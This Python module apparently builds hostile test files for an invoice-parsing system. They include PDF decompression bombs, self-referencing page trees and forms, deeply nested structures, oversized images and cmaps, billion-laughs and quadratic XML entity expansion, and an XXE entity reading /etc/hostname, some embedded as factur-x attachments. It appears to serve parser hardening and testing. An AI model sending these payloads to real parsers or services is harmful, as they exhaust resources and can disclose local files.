"""Documents that attack whoever reads them, each made of next to nothing.

A name that ends in `.xml` is an XML; all others are PDFs. None of them holds an invoice that could be read.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Sequence

__all__ = ["BOMBS", "deflated", "page", "pdf", "stream"]

MB = 1024 * 1024

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def pdf(objects: Sequence[bytes]) -> bytes:
    """A PDF of *objects*, numbered from 1; the first is its catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(data), entries, data)


def page(contents: bytes, *more: bytes, box: bytes = b"0 0 595 842", entries: bytes = b"") -> bytes:
    """A page with object 4 for its contents; *more* are the objects from 6 on."""
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>%b>>" % (box, entries)
    return pdf([CATALOG, PAGES, leaf, contents, FONT, *more])


def deflated(pattern: bytes, times: int) -> bytes:
    """*pattern* repeated, as deflate writes it; made without ever being that long."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeezer.compress(pattern) + squeezer.flush(zlib.Z_FULL_FLUSH)
    # Each block stands for itself. No reader waits for the checksum at the end.
    return b"\x78\x9c" + block * times + b"\x03\x00" + b"\0\0\0\0"


def flate(pattern: bytes, times: int, entries: bytes = b"") -> bytes:
    """A stream of *pattern* repeated, deflated twice."""
    squeezed = zlib.compress(deflated(pattern, times), 9)
    return stream(squeezed, b"/Filter[/FlateDecode/FlateDecode]" + entries)


def text(pattern: bytes, times: int) -> bytes:
    return page(flate(pattern, times))


def attached(xml: bytes) -> bytes:
    """A PDF that carries *xml*, a stream, as e-invoices do."""
    names = b"/Names<</EmbeddedFiles<</Names[(factur-x.xml) 6 0 R]>>>>"
    catalog = CATALOG[:-2] + names + b">>"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    spec = b"<</Type/Filespec/F(factur-x.xml)/UF(factur-x.xml)/EF<</F 7 0 R/UF 7 0 R>>>>"
    return pdf([catalog, PAGES, leaf, stream(b""), FONT, spec, xml])


def laughs(root: str = "CrossIndustryInvoice") -> bytes:
    """Ten entities, each ten times the one before."""
    entities = ['<!ENTITY l0 "lollollol">']
    entities += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11)]
    return f'<?xml version="1.0"?><!DOCTYPE x [{"".join(entities)}]><{root} a="&l10;">&l10;</{root}>'.encode()


def quadratic() -> bytes:
    """One long entity, many times."""
    return (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]><Invoice>' + b"&a;" * 50_000
    ) + b"</Invoice>"


def stranger(address: str) -> bytes:
    """An entity that names a file, and a document type that lies elsewhere."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{address}" [<!ENTITY e SYSTEM "{address}">]>'
        '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"'
        ' xmlns:c="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><c:ID>&e;</c:ID></Invoice>'
    ).encode()


def deep_xml() -> bytes:
    return b'<?xml version="1.0"?>' + b"<a>" * 1_000_000


def wide_xml() -> bytes:
    """A million lines."""
    lines = b'<cfdi:Concepto Descripcion="x" Importe="1"/>' * 300_000
    head = b'<?xml version="1.0"?><cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" Total="1">'
    return head + b"<cfdi:Conceptos>" + lines + b"</cfdi:Conceptos></cfdi:Comprobante>"


def tree_loop() -> bytes:
    return pdf([CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])


def tree_chain() -> bytes:
    """Folders of pages inside each other."""
    depth = 100_000
    chain = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(2, depth)]
    return pdf([CATALOG, *chain, b"<</Type/Page/MediaBox[0 0 10 10]>>"])


def ten_pages() -> bytes:
    """Ten million characters, of which each page shows all."""
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    contents = flate(b"BT /F 9 Tf 9 9 Td (Dear Sir,) Tj ET\n" * 1000, 1000)
    return pdf([CATALOG, b"<</Type/Pages/Kids[" + b"3 0 R " * 10 + b"]/Count 10>>", leaf, contents, FONT])


def doubled_pages() -> bytes:
    """Folders of pages that hold the next one a thousand times."""
    depth = 6
    folders = [b"<</Type/Pages/Kids[" + b"%d 0 R " % (n + 1) * 1000 + b"]/Count 1000>>" for n in range(2, 2 + depth)]
    return pdf([CATALOG, *folders, b"<</Type/Page/MediaBox[0 0 10 10]/UserUnit 2>>"])


def many_pages() -> bytes:
    """A count of pages that nothing bears out."""
    return pdf(
        [CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", b"<</Type/Page/MediaBox[0 0 9 9]/Parent 2 0 R>>"]
    )


def nested_arrays() -> bytes:
    return page(stream(b""), entries=b"/Annots" + b"[" * 100_000 + b"]" * 100_000)


def nested_in_content() -> bytes:
    return page(stream(b"[" * 1_000_000 + b"]" * 1_000_000 + b" TJ"))


def nested_dictionaries() -> bytes:
    return page(stream(b""), entries=b"/A<<" * 100_000 + b">>" * 100_000)


def forms(depth: int, times: int) -> bytes:
    """Forms that draw each the next one, several times."""
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    drawing = b"/X Do " * times
    more = [
        stream(drawing, head + b"/Resources<</XObject<</X %d 0 R>>>>" % (number + 1)) for number in range(6, 6 + depth)
    ]
    last = stream(b"BT /F 9 Tf (x) Tj ET", head + b"/Resources<</Font<</F 5 0 R>>>>")
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>>>>>"
    return pdf([CATALOG, PAGES, leaf, stream(drawing), FONT, *more, last])


def form_loop() -> bytes:
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>>>>>"
    return pdf([CATALOG, PAGES, leaf, stream(b"/X Do"), FONT, stream(b"/X Do /X Do", head)])


def object_stream() -> bytes:
    """Objects said to lie in a stream of two gigabytes."""
    squeezed = flate(b" " * MB, 2048, b"/Type/ObjStm/N 1000000000/First 2000000000")
    start = b"%PDF-1.7\n"
    lies = b"1 0 obj\n" + squeezed + b"\nendobj\n"
    at = len(start) + len(lies)
    row = lambda kind, place, index: bytes([kind]) + place.to_bytes(4, "big") + index.to_bytes(2, "big")  # noqa: E731 - a table's row
    rows = row(0, 0, 65535) + row(1, len(start), 0) + row(2, 1, 0) + row(2, 1, 1) + row(1, at, 0)
    table = stream(rows, b"/Type/XRef/Size 5/W[1 4 2]/Root 2 0 R")
    return start + lies + b"4 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def table_loop() -> bytes:
    """A table of objects that names itself as the one before."""
    whole = page(stream(b""))
    at = whole.rindex(b"startxref\n") + len(b"startxref\n")
    place = whole[at:].split(b"\n")[0]
    return whole.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %b>>" % place)


def names_loop() -> bytes:
    """Attachments in a tree that contains itself."""
    catalog = CATALOG[:-2] + b"/Names<</EmbeddedFiles 6 0 R>>>>"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    knot = b"<</Kids[6 0 R 6 0 R 7 0 R]/Limits[(a)(z)]>>"
    spec = b"<</Names[(factur-x.xml) <</Type/Filespec/F(factur-x.xml)/EF<</F 4 0 R>>>>]/Limits[(a)(z)]>>"
    return pdf([catalog, PAGES, leaf, stream(b""), FONT, knot, spec])


def many_names() -> bytes:
    """A million attachments, all of them one, and broken."""
    catalog = CATALOG[:-2] + b"/Names<</EmbeddedFiles<</Names[" + b"(factur-x.xml)6 0 R " * 1_000_000 + b"]>>>>>>"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    spec = b"<</Type/Filespec/F(factur-x.xml)/UF(factur-x.xml)/EF<</F 4 0 R>>>>"
    return pdf([catalog, PAGES, leaf, stream(b"<a>"), FONT, spec])


def image_bomb() -> bytes:
    """A picture of four thousand million pixels."""
    entries = b"/Type/XObject/Subtype/Image/Width 65000/Height 65000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    picture = flate(b"\0" * MB, 4096, entries)
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>>>>>"
    return pdf([CATALOG, PAGES, leaf, stream(b"500 0 0 500 0 0 cm /X Do"), FONT, picture])


def predictor() -> bytes:
    entries = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"
    return page(stream(zlib.compress(b"\2" * 1000), entries))


def character_map() -> bytes:
    """A font that says of each of four thousand million codes what it means."""
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange "
    )
    cmap += b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange " * 1000 + b"endcmap"
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[7 0 R]/ToUnicode 8 0 R>>"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 6 0 R>>>>>>"
    child = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/W[0 2000000000 500]"
    child += b"/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>"
    contents = stream(b"BT /F 9 Tf 9 9 Td <00410042> Tj ET")
    return pdf([CATALOG, PAGES, leaf, contents, FONT, font, child, stream(cmap)])


def huge_page() -> bytes:
    return page(stream(b"BT /F 9 Tf 9 9 Td (x) Tj ET"), box=b"-1e38 -1e38 1e38 1e38", entries=b"/UserUnit 1e30")


#: Name → what makes it.
BOMBS: dict[str, Callable[[], bytes]] = {
    "two-gigabytes-of-blanks": lambda: text(b" " * MB, 2048),
    "two-gigabytes-of-text": lambda: text(b"BT /F 9 Tf 9 9 Td (" + b"x" * MB + b") Tj ET\n", 2048),
    "millions-of-characters": lambda: text(b"BT /F 9 Tf 9 9 Td (Dear Sir,) Tj ET\n" * 1000, 1000),
    "millions-of-strokes": lambda: text(b"0 0 m 9 9 l S\n" * 10_000, 2000),
    "one-line-of-a-megabyte": lambda: text(b"BT /F 0.001 Tf 9 9 Td (" + b"lorem  " * 20_000 + b") Tj ET\n", 8),
    "page-tree-loop": tree_loop,
    "page-tree-chain": tree_chain,
    "count-of-pages": many_pages,
    "ten-pages": ten_pages,
    "doubled-pages": doubled_pages,
    "nested-arrays": nested_arrays,
    "nested-arrays-in-content": nested_in_content,
    "nested-dictionaries": nested_dictionaries,
    "forms-in-forms": lambda: forms(20_000, 1),
    "forms-doubled": lambda: forms(28, 2),
    "form-loop": form_loop,
    "object-stream": object_stream,
    "table-loop": table_loop,
    "names-loop": names_loop,
    "many-names": many_names,
    "image": image_bomb,
    "predictor": predictor,
    "character-map": character_map,
    "huge-page": huge_page,
    "attached-laughs": lambda: attached(stream(laughs())),
    "attached-quadratic": lambda: attached(stream(quadratic())),
    "attached-stranger": lambda: attached(stream(stranger("file:///etc/hostname"))),
    "attached-two-gigabytes": lambda: attached(flate(b"<a></a>" * 100_000, 3000)),
    "attached-deep": lambda: attached(stream(deep_xml())),
    "laughs.xml": laughs,
    "quadratic.xml": quadratic,
    "stranger.xml": lambda: stranger("file:///etc/hostname"),
    "deep.xml": deep_xml,
    "wide.xml": wide_xml,
}
